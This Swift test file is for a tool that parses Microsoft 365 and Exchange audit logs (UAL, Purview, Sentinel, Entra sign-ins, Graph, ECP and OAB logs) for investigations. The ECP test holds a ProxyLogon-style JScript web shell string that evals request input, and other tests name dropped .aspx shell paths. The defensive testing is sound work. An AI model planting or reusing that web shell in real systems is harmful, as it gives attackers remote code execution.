import AuditEvents
import AuditSources
import Foundation
import Testing

@Suite("Reading audit files")
struct ReaderTests {
    @Test("malformed lines are quarantined with file, line and reason; good lines around them load")
    func malformedLines() throws {
        let read = try Fixtures.read(Fixtures.path("malformed.jsonl"))
        #expect(read.format == .ualJSONLines)
        #expect(read.events.map { $0.recordID.description.suffix(2) } == ["01", "02", "08"])
        #expect(read.skipped == ["SharePoint"])
        let notes = read.quarantined.map { "\($0.origin.line): \($0.reason)" }
        #expect(notes.count == 6)
        #expect(notes[0].hasPrefix("2: invalid JSON"))
        #expect(notes[1] == "4: missing field \"Id\"")
        #expect(notes[2] == "5: missing field \"CreationTime\"")
        #expect(notes[3] == "6: invalid JSON: field LogonType: expected a number")
        #expect(notes[4] == "9: field \"CreationTime\" is not an ISO 8601 time")
        #expect(notes[5].hasPrefix("11: invalid JSON"))
        #expect(
            read.quarantined[1].description.hasSuffix(
                "malformed.jsonl:4: missing field \"Id\" (quarantined)"))
    }

    @Test("an Id that is not a GUID is quarantined with the value found and the shape expected")
    func idNotAGUID() throws {
        let line =
            #"{"Id":"test-0001","CreationTime":"2024-05-14T09:40:03","Operation":"MailItemsAccessed","#
            + #""Workload":"Exchange","UserId":"u@contoso.example"}"#
        let read = try Fixtures.read(try Fixtures.writeTemporary(line + "\n", name: "ids.jsonl"))
        #expect(
            read.quarantined.map(\.reason) == [
                #"field "Id" is "test-0001", not a GUID: a UAL record's Id is a GUID such as 6f9619ff-8b86-d011-b42d-00c04fc964ff"#
            ])
    }

    @Test("Sentinel OfficeActivity exports (JSON, CSV) read as the UAL records they hold; bad rows say why")
    func sentinel() throws {
        let ual = try Fixtures.read(Fixtures.path("ual-as-in-sentinel.jsonl")).events
        for name in ["sentinel-officeactivity.json", "sentinel-officeactivity.csv"] {
            let read = try Fixtures.read(Fixtures.path(name))
            #expect(read.format == (name.hasSuffix("json") ? .sentinelJSON : .sentinelCSV))
            #expect(read.quarantined.isEmpty)
            // The same records as the UAL export, but for the row kept as evidence and the item
            // count, which OfficeActivity does not carry.
            func comparable(_ event: AuditEvent) -> AuditEvent {
                var event = event
                (event.raw, event.origin, event.items) = ("", ual[0].origin, 0)
                return event
            }
            #expect(read.events.map(comparable) == ual.map(comparable))
            #expect(read.events.first?.raw.contains("OpsManager") == true)
        }
        let bad =
            #"[{"OfficeId":"5a6f6d1e-3c1b-4c8e-9f2a-1b2c3d4e5f60","TimeGenerated":"2024-05-14T09:40:03Z","#
            + #""OfficeWorkload":"Exchange","Operation":"MailItemsAccessed","UserType":"Wizard","UserId":"u@x"},"#
            + #"{"TimeGenerated":"2024-05-14T09:40:03Z","OfficeWorkload":"Exchange","OfficeId":"","Operation":"x"}]"#
        let read = try Fixtures.read(try Fixtures.writeTemporary(bad, name: "bad.json"))
        #expect(
            read.quarantined.map(\.reason) == [
                #"OfficeActivity: UserType "Wizard" is not a user type mailhound knows"#,
                #"OfficeActivity: missing column "OfficeId""#,
            ])
    }

    @Test("a normalized record carries typed fields")
    func normalizedFields() throws {
        let event = try #require(try Fixtures.read(Fixtures.path("malformed.jsonl")).events.first)
        #expect(event.tenant == "11111111-2222-3333-4444-555555555555")
        #expect(event.occurredAt.description == "2024-05-14T09:40:03Z")
        #expect(event.actorKind == .delegate)
        #expect(event.clientIP?.description == "2001:db8::7")
        #expect(event.accessType == "Sync")
        #expect(event.isThrottled == true)
        #expect(event.folders == ["\\Inbox"])
        #expect(event.origin.line == 1)
        #expect(event.raw.hasPrefix("{\"CreationTime\""))
    }

    @Test("BOM and CRLF are handled")
    func bomAndCRLF() throws {
        let read = try Fixtures.read(Fixtures.path("bom-crlf.jsonl"))
        #expect(read.events.count == 2)
        #expect(read.quarantined.isEmpty)
        #expect(read.events[1].origin.line == 2)
    }

    @Test("gzip files are read")
    func gzip() throws {
        #expect(try Fixtures.read(Fixtures.path("records.jsonl.gz")).events.count == 5)
    }

    @Test("pretty-printed envelope arrays (Search-UnifiedAuditLog | ConvertTo-Json) are read")
    func envelopes() throws {
        let read = try Fixtures.read(Fixtures.path("envelopes.json"))
        #expect(read.format == .ualJSONArray)
        #expect(
            read.events.map(\.operation) == [
                "MailItemsAccessed", "MailItemsAccessed", "MailItemsAccessed",
            ])
        #expect(read.quarantined.isEmpty)
    }

    @Test("Purview CSV: doubled quotes, BOM; a bad AuditData row is quarantined")
    func purviewCSV() throws {
        let read = try Fixtures.read(Fixtures.path("purview.csv"))
        #expect(read.format == .purviewCSV)
        #expect(read.events.count == 2)
        #expect(read.quarantined.count == 1)
        #expect(read.quarantined.first?.origin.line == 3)
        #expect(read.quarantined.first?.reason == "AuditData: invalid JSON: field Id: not valid JSON")
    }

    @Test("unknown content is an error naming the file")
    func unknownFormat() {
        #expect(throws: SourceError.self) { try Fixtures.read(Fixtures.path("unknown.txt")) }
        do {
            _ = try Fixtures.read(Fixtures.path("unknown.txt"))
        } catch let error as SourceError {
            #expect(error.description.contains("unknown.txt:1: unknown format"))
        } catch {
            Issue.record("unexpected \(error)")
        }
    }

    @Test("a missing path is an error naming it")
    func missingPath() {
        #expect(throws: SourceError(file: "/nonexistent/x.jsonl", reason: "no such file or directory")) {
            try InputFile.expand(["/nonexistent/x.jsonl"])
        }
    }

    @Test("directories expand recursively in name order")
    func directories() throws {
        let inputs = try InputFile.expand([Fixtures.directory.path])
        #expect(
            inputs.map { URL(fileURLWithPath: $0.path).lastPathComponent } == [
                "admin-audit.csv", "bom-crlf.jsonl", "ecp-server.log", "entra-signins-loganalytics.csv",
                "entra-signins-portal.csv", "entra-signins-resourcelog.jsonl", "entra-signins.json",
                "entra-signins.jsonl", "envelopes.json", "graph-activity-resourcelog.jsonl", "graph-activity.csv",
                "graph-activity.jsonl",
                "httpproxy.log", "iis.log",
                "mailbox-audit-ambiguous.csv", "mailbox-audit-dmy.csv", "malformed.jsonl", "oab-generator.log",
                "purview.csv",
                "records.jsonl.gz", "sentinel-officeactivity.csv", "sentinel-officeactivity.json",
                "test-proxylogon-26855.csv", "ual-as-in-sentinel.jsonl", "unknown.txt",
            ])
    }
}

@Suite("Shared format samples")
struct SharedSampleTests {
    static let expected: [(file: String, format: SourceFormat, records: Int)] = [
        ("ual-mailitemsaccessed.jsonl", .ualJSONLines, 21),
        ("ual-content-blob.json", .ualJSONArray, 7),
        ("purview-audit-export.csv", .purviewCSV, 23),
        ("purview-audit-export-classic.csv", .purviewCSV, 8),
    ]

    @Test(
        "each UAL sample reads completely, nothing quarantined", .enabled(if: Fixtures.sharedSamples != nil),
        arguments: expected.map(\.file))
    func sample(_ file: String) throws {
        let samples = try #require(Fixtures.sharedSamples)
        let expectation = try #require(Self.expected.first { $0.file == file })
        let read = try Fixtures.read(samples.appendingPathComponent(file).path)
        #expect(read.format == expectation.format)
        #expect(read.quarantined.map(\.description) == [])
        #expect(read.events.count + read.skipped.count == expectation.records)
    }

    @Test(
        "the JSON samples and the Purview export carry the same record ids",
        .enabled(if: Fixtures.sharedSamples != nil))
    func sameRecordsAcrossFormats() throws {
        let samples = try #require(Fixtures.sharedSamples)
        let jsonIDs = Set(
            try Fixtures.read(samples.appendingPathComponent("ual-mailitemsaccessed.jsonl").path).events
                .map(\.recordID)
                + Fixtures.read(samples.appendingPathComponent("ual-content-blob.json").path).events.map(
                    \.recordID))
        let csvIDs = Set(
            try Fixtures.read(samples.appendingPathComponent("purview-audit-export.csv").path).events.map(
                \.recordID))
        #expect(csvIDs.count == 23)
        #expect(csvIDs.isSubset(of: jsonIDs))
    }

    @Test(
        "the planted svc-sync download: delegate Sync from 203.0.113.66, admin ClientIP port stripped",
        .enabled(if: Fixtures.sharedSamples != nil))
    func plantedPattern() throws {
        let samples = try #require(Fixtures.sharedSamples)
        let events = try Fixtures.read(
            samples.appendingPathComponent("ual-mailitemsaccessed.jsonl").path
        ).events
        let syncs = events.filter { $0.actor == "svc-sync@contoso.example" && $0.accessType == "Sync" }
        #expect(syncs.count == 6)
        #expect(
            syncs.allSatisfy { $0.actorKind == .delegate && $0.clientIP?.description == "203.0.113.66" })
        let grant = try #require(events.first { $0.operation == "Add-MailboxPermission" })
        #expect(grant.clientIP?.description == "203.0.113.66")
        #expect(grant.parameter("AccessRights") == "FullAccess")
        #expect(events.contains { $0.isThrottled == true })
    }

    @Test("Entra sign-ins (Graph signIn objects, array or lines) become sign-in events that join mail sessions")
    func entraSignIns() throws {
        let read = try Fixtures.read(Fixtures.path("entra-signins.json"))
        #expect(read.format == .entraSignIns)
        #expect(read.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["65: sign-in: missing field \"id\""])
        let events = read.events
        #expect(events.map(\.operation) == ["UserLoggedIn", "UserLoginFailed", "UserLoggedIn"])
        #expect(events.map(\.resultStatus) == ["Success", "Failure", "Success"])
        #expect(
            events.map { $0.actor ?? "" } == [
                "alice@contoso.example", "alice@contoso.example", "Contoso Mail Archiver",
            ])
        #expect(events.map(\.actorKind) == [.user, .user, .app])
        #expect(events.map(\.tenant) == Array(repeating: "11111111-2222-3333-4444-555555555555", count: 3))
        let alice = events[0]
        #expect(alice.occurredAt.description == "2024-05-20T03:12:07Z")
        #expect(alice.clientIP?.description == "198.51.100.23")
        #expect(alice.clientAppID == "de8bc8b5-d9f9-48b1-a8ad-b748da725064")
        #expect(alice.appID == "00000003-0000-0000-c000-000000000000")
        #expect(alice.sourceSessionID == "3c1a0b9d-6a53-4d4b-8b1f-2a9f7c5d0e11")
        #expect(alice.clientInfo?.hasPrefix("Mozilla/5.0") == true)
        let details = Dictionary(alice.parameters.map { ($0.name, $0.value) }, uniquingKeysWith: { first, _ in first })
        #expect(details["Country"] == "RU")
        #expect(details["City"] == "Novosibirsk")
        #expect(details["RiskLevelDuringSignIn"] == "medium")
        #expect(details["IsInteractive"] == "True")
        #expect(details["UniqueTokenIdentifier"] == "qH1Xv3l0k0-1ZqHjA9xCAA")
        #expect(events[1].parameters.contains(Parameter(name: "ErrorCode", value: "50126")))
        #expect(events[2].parameters.contains(Parameter(name: "ClientCredentialType", value: "certificate")))
        #expect(alice.raw.contains("\"Novosibirsk\""))

        let lines = try Fixtures.read(Fixtures.path("entra-signins.jsonl"))
        #expect(lines.format == .entraSignIns)
        #expect(lines.events.map(\.recordID) == events.map(\.recordID))
        #expect(lines.events.map(\.parameters) == events.map(\.parameters))
    }

    @Test("the ECP Server log: cmdlets become admin events with their parameters; script in a value survives whole")
    func ecpServerLog() throws {
        let read = try Fixtures.read(Fixtures.path("ecp-server.log"))
        #expect(read.format == .ecpServer)
        #expect(read.skipped == ["ECP requests without a cmdlet"])
        #expect(
            read.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["10: TimeStamp is missing or not ISO 8601"])
        #expect(
            read.events.map(\.operation) == [
                "Set-OabVirtualDirectory", "Set-OabVirtualDirectory", "Remove-OabVirtualDirectory",
            ])
        let shell = try #require(read.events.first)
        #expect(shell.occurredAt.description == "2021-03-02T02:04:15.412000Z")
        #expect(shell.originServer == "exch01")
        #expect(shell.workload == "ECP")
        #expect(
            shell.parameters == [
                Parameter(
                    name: "ExternalUrl",
                    value:
                        #"http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["unsafe"],"unsafe");}</script>"#
                ),
                Parameter(name: "Identity", value: "b6d0d4c3-7f2a-4c1e-9a8b-0c1d2e3f4a5b"),
            ])
        #expect(read.events[1].parameters.first == Parameter(name: "ExternalUrl", value: "$null"))
        #expect(read.events[2].resultStatus == "Failed: System.Management.Automation.RemoteException")
    }

    @Test("the OAB generator log: each download failure becomes an event naming the file; other lines are counted")
    func oabGeneratorLog() throws {
        let read = try Fixtures.read(Fixtures.path("oab-generator.log"))
        #expect(read.format == .oabGenerator)
        #expect(read.skipped == Array(repeating: "OAB generator lines without a download failure", count: 2))
        #expect(
            read.quarantined.map { "\($0.origin.line): \($0.reason)" } == [
                "9: a download failure without an ISO 8601 time on its line"
            ])
        #expect(
            read.events.map { $0.objectID ?? "" } == [
                #"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\OAB\Temp\1c7a2d94\oab.lzx"#,
                #"C:\inetpub\wwwroot\aspnet_client\system_web\Zk3pQ.aspx"#,
                #"\\10.0.0.5\c$\inetpub\wwwroot\aspnet_client\shell.aspx"#,
            ])
        #expect(
            read.events.map(\.occurredAt.description) == [
                "2021-03-03T03:31:14.080000Z", "2021-03-03T03:32:40.918000Z", "2021-03-03T03:33:02.250000Z",
            ])
        #expect(read.events.map(\.operation) == Array(repeating: "OABDownloadFailed", count: 3))
        #expect(read.events.allSatisfy { $0.workload == "OABGenerator" && $0.actorKind == .system })
        #expect(read.events[1].parameters == [Parameter(name: "TemporaryFile", value: read.events[1].objectID ?? "")])
    }

    @Test("findstr's output of the OAB generator logs (file:line: before each line) reads as the log, keyed alike")
    func oabGeneratorFindstr() throws {
        let log = try Fixtures.read(Fixtures.path("oab-generator.log"))
        let folder = #"C:\Program Files\Microsoft\Exchange Server\V15\Logging\OABGeneratorLog\"#
        let found = try Fixtures.writeTemporary(
            folder + "OABGeneratorLog_20210303-1.LOG:7:2021-03-03T03:32:40.918Z,EXCH01,Warning,"
                + #"Download failed and temporary file 'C:\inetpub\wwwroot\aspnet_client\system_web\Zk3pQ.aspx' "#
                + "needs to be removed.\r\n",
            name: "findstr.txt")
        let read = try Fixtures.read(found)
        #expect(read.format == .oabGenerator)
        #expect(read.events.map(\.recordID) == [log.events[1].recordID])
        #expect(read.events.map(\.objectID) == [log.events[1].objectID])
    }

    @Test("Graph activity logs: successful mail GETs become mail reads through Graph; other requests are counted")
    func graphActivity() throws {
        let read = try Fixtures.read(Fixtures.path("graph-activity.jsonl"))
        #expect(read.format == .graphActivity)
        #expect(read.skipped == Array(repeating: "Graph requests that read no mail", count: 3))
        #expect(read.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["7: Graph activity: missing RequestId"])
        let events = read.events
        #expect(events.map(\.operation) == Array(repeating: "MailItemsAccessed", count: 3))
        #expect(
            events.map { $0.actor ?? "" } == [
                "ServicePrincipal_5b0f7a1c-1f7e-4a6b-9b52-0c7b1d1e9a01", "d7cc485d-2c1b-422c-98fd-5ce52859a4a3",
                "ServicePrincipal_5b0f7a1c-1f7e-4a6b-9b52-0c7b1d1e9a01",
            ])
        #expect(events.map(\.actorKind) == [.app, .user, .app])
        #expect(
            events.map { $0.mailboxOwner ?? "" } == [
                "ceo@contoso.example", "d7cc485d-2c1b-422c-98fd-5ce52859a4a3", "cfo@contoso.example",
            ])
        #expect(events.map(\.items) == [50, 1, 0])
        #expect(events.map { $0.accessType ?? "" } == ["Bind", "Bind", "Sync"])
        #expect(events.map(\.folders) == [["\\Inbox"], ["\\Inbox"], ["\\Archive"]])
        #expect(events.map { $0.appID ?? "" } == Array(repeating: "00000003-0000-0000-c000-000000000000", count: 3))
        #expect(events[0].clientAppID == "b5a7f1c2-3d4e-4f60-8a7b-9c0d1e2f3a4b")
        #expect(events[0].clientIP?.description == "203.0.113.140")
        #expect(events[0].sourceSessionID == "qH1Xv3l0k0-1ZqHjA9xCAA")
        #expect(events[1].sourceSessionID == "3c1a0b9d-6a53-4d4b-8b1f-2a9f7c5d0e11")
        #expect(events[0].tenant == "11111111-2222-3333-4444-555555555555")
    }

    @Test("Graph activity as a Log Analytics CSV and as resource log records reads as the JSON export does")
    func graphActivityExports() throws {
        let tenant = "11111111-2222-3333-4444-555555555555"
        let csv = try Fixtures.read(Fixtures.path("graph-activity.csv"))
        #expect(csv.format == .graphActivityCSV)
        #expect(csv.skipped == ["Graph requests that read no mail"])
        #expect(csv.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["5: Graph activity: missing RequestId"])
        #expect(csv.events.map(\.occurredAt.description) == ["2024-05-20T03:20:11Z", "2024-05-20T03:21:02Z"])
        #expect(
            csv.events.map { $0.actor ?? "" } == [
                "ServicePrincipal_5b0f7a1c-1f7e-4a6b-9b52-0c7b1d1e9a01", "d7cc485d-2c1b-422c-98fd-5ce52859a4a3",
            ])
        #expect(csv.events.map(\.items) == [100, 1])
        // The directory's id (AadTenantId), not the workspace's (TenantId).
        #expect(csv.events.map(\.tenant) == [tenant, tenant])
        // The request the JSON export holds too is the same event.
        let json = try Fixtures.read(Fixtures.path("graph-activity.jsonl")).events
        var fromCSV = csv.events[1]
        (fromCSV.raw, fromCSV.origin) = (json[1].raw, json[1].origin)
        #expect(fromCSV == json[1])

        let resourceLog = try Fixtures.read(Fixtures.path("graph-activity-resourcelog.jsonl"))
        #expect(resourceLog.format == .graphActivity)
        #expect(resourceLog.skipped == ["Graph requests that read no mail"])
        #expect(resourceLog.quarantined.isEmpty)
        let read = try #require(resourceLog.events.first)
        #expect(read.occurredAt.description == "2024-05-20T03:24:10.015970Z")
        #expect(read.actor == "ServicePrincipal_5b0f7a1c-1f7e-4a6b-9b52-0c7b1d1e9a01")
        #expect(read.mailboxOwner == "cfo@contoso.example")
        #expect(read.folders == ["\\Inbox"])
        #expect(read.items == 250)
        #expect(read.tenant == tenant)
        #expect(read.clientIP?.description == "203.0.113.140")
        #expect(read.sourceSessionID == "qH1Xv3l0k0-1ZqHjA9xCAA")
    }

    @Test("Entra sign-ins as the portal's CSV, a Log Analytics CSV and resource log records read as Graph's JSON")
    func entraSignInExports() throws {
        let graph = try Fixtures.read(Fixtures.path("entra-signins.json")).events
        func details(_ event: AuditEvent) -> [String: String] {
            Dictionary(event.parameters.map { ($0.name, $0.value) }, uniquingKeysWith: { first, _ in first })
        }
        for name in ["entra-signins-portal.csv", "entra-signins-loganalytics.csv"] {
            let read = try Fixtures.read(Fixtures.path(name))
            #expect(read.format == .entraSignInsCSV)
            #expect(read.quarantined.map { "\($0.origin.line): \($0.reason)" } == ["4: sign-in: missing field \"id\""])
            let events = read.events
            #expect(events.map(\.recordID) == graph.prefix(2).map(\.recordID))
            #expect(events.map(\.operation) == ["UserLoggedIn", "UserLoginFailed"])
            #expect(events.map(\.occurredAt) == graph.prefix(2).map(\.occurredAt))
            #expect(events.map(\.actor) == graph.prefix(2).map(\.actor))
            #expect(events.map(\.tenant) == graph.prefix(2).map(\.tenant))
            #expect(events.map(\.clientIP) == graph.prefix(2).map(\.clientIP))
            #expect(events.map(\.clientAppID) == graph.prefix(2).map(\.clientAppID))
            #expect(events.map(\.appID) == graph.prefix(2).map(\.appID))
            #expect(events[0].sourceSessionID == "3c1a0b9d-6a53-4d4b-8b1f-2a9f7c5d0e11")
            #expect(details(events[0])["Country"] == "RU")
            #expect(details(events[0])["City"] == "Novosibirsk")
            #expect(details(events[0])["UniqueTokenIdentifier"] == "zz1Xv3l0k0-1ZqHjA9xCAA")
            #expect(details(events[1])["ErrorCode"] == "50126")
        }
        let analytics = try Fixtures.read(Fixtures.path("entra-signins-loganalytics.csv")).events
        #expect(details(analytics[0])["RiskLevelDuringSignIn"] == "medium")
        #expect(details(analytics[0])["IsInteractive"] == "True")

        let resourceLog = try Fixtures.read(Fixtures.path("entra-signins-resourcelog.jsonl"))
        #expect(resourceLog.format == .entraSignIns)
        #expect(resourceLog.quarantined.isEmpty)
        let bob = try #require(resourceLog.events.first)
        #expect(bob.actor == "bob@contoso.example")
        #expect(bob.occurredAt.description == "2024-05-20T03:14:52Z")
        #expect(bob.clientIP?.description == "203.0.113.77")
        #expect(bob.sourceSessionID == "8e2b1c0a-7b64-4e5c-9c2a-3b0a8d6e1f22")
        #expect(bob.tenant == "11111111-2222-3333-4444-555555555555")
        #expect(details(bob)["Country"] == "BR")
        #expect(details(bob)["RiskLevelDuringSignIn"] == "high")
    }

    @Test("a portal download's display-culture times read as UTC; an ambiguous one needs --date-order")
    func portalCultureTimes() throws {
        let csv = """
            TimeGenerated [UTC],OfficeWorkload,RecordType,Operation,UserType,UserId,OrganizationId,OfficeId
            "5/14/2024, 9:40:03.000 AM",Exchange,ExchangeItemAggregated,MailItemsAccessed,Regular,u@contoso.example,t,5a6f6d1e-3c1b-4c8e-9f2a-1b2c3d4e5f61
            "5/6/2024, 1:02:03.000 PM",Exchange,ExchangeItemAggregated,MailItemsAccessed,Regular,u@contoso.example,t,5a6f6d1e-3c1b-4c8e-9f2a-1b2c3d4e5f62
            "14.05.2024 09:40:03",Exchange,ExchangeItemAggregated,MailItemsAccessed,Regular,u@contoso.example,t,5a6f6d1e-3c1b-4c8e-9f2a-1b2c3d4e5f63

            """
        let path = try Fixtures.writeTemporary(csv, name: "portal.csv")
        let read = try Fixtures.read(path)
        #expect(read.format == .sentinelCSV)
        #expect(read.events.map(\.occurredAt.description) == ["2024-05-14T09:40:03Z", "2024-05-14T09:40:03Z"])
        #expect(
            read.quarantined.map(\.reason) == [
                #"OfficeActivity: TimeGenerated "5/6/2024, 1:02:03.000 PM" can be read month-first or day-first: pass --date-order mdy (an en-US browser's download) or dmy"#
            ])
        var options = ReadOptions(tenant: "test")
        options.dateOrder = .mdy
        let ordered = try Fixtures.read(path, options: options)
        #expect(ordered.quarantined.isEmpty)
        #expect(ordered.events.map(\.occurredAt.description)[1] == "2024-05-06T13:02:03Z")
    }

    @Test("Log Analytics SigninLogs rows read as the Graph sign-ins they were made from")
    func signInLogsTable() throws {
        let row = """
            {"TenantId":"11111111-2222-3333-4444-555555555555","TimeGenerated":"2024-05-20T03:12:09.1234567Z",\
            "Id":"66ea54eb-6301-4ee5-be62-ff5a759b0100","CreatedDateTime":"2024-05-20T03:12:07Z",\
            "UserPrincipalName":"alice@contoso.example","UserId":"d7cc485d-2c1b-422c-98fd-5ce52859a4a3",\
            "AppId":"de8bc8b5-d9f9-48b1-a8ad-b748da725064","AppDisplayName":"Graph Explorer","IPAddress":"198.51.100.23",\
            "Location":"RU","LocationDetails":"{\\"city\\":\\"Novosibirsk\\",\\"countryOrRegion\\":\\"RU\\"}",\
            "ResultType":"0","ResultDescription":"","ClientAppUsed":"Browser","UserAgent":"Mozilla/5.0",\
            "IsInteractive":true,"ResourceDisplayName":"Microsoft Graph",\
            "ResourceIdentity":"00000003-0000-0000-c000-000000000000",\
            "ResourceTenantId":"11111111-2222-3333-4444-555555555555","SessionId":"3c1a0b9d-6a53-4d4b-8b1f-2a9f7c5d0e11",\
            "RiskLevelDuringSignIn":"medium","Type":"SigninLogs"}
            {"TenantId":"11111111-2222-3333-4444-555555555555","TimeGenerated":"2024-05-20T03:10:44Z",\
            "Id":"66ea54eb-6301-4ee5-be62-ff5a759b0101","UserPrincipalName":"alice@contoso.example",\
            "IPAddress":"198.51.100.23","Location":"RU","ResultType":"50126","ResultDescription":"Invalid password",\
            "Type":"SigninLogs"}

            """
        let read = try Fixtures.read(try Fixtures.writeTemporary(row, name: "signinlogs.json"))
        #expect(read.format == .entraSignIns)
        #expect(read.quarantined.isEmpty)
        #expect(read.events.map(\.operation) == ["UserLoggedIn", "UserLoginFailed"])
        let alice = try #require(read.events.first)
        #expect(alice.occurredAt.description == "2024-05-20T03:12:07Z")
        #expect(alice.tenant == "11111111-2222-3333-4444-555555555555")
        #expect(alice.sourceSessionID == "3c1a0b9d-6a53-4d4b-8b1f-2a9f7c5d0e11")
        #expect(alice.appID == "00000003-0000-0000-c000-000000000000")
        let details = Dictionary(alice.parameters.map { ($0.name, $0.value) }, uniquingKeysWith: { first, _ in first })
        #expect(details["Country"] == "RU" && details["City"] == "Novosibirsk" && details["IsInteractive"] == "True")
        #expect(read.events[1].parameters.contains(Parameter(name: "ErrorCode", value: "50126")))
        #expect(read.events[1].parameters.contains(Parameter(name: "Country", value: "RU")))
    }
}
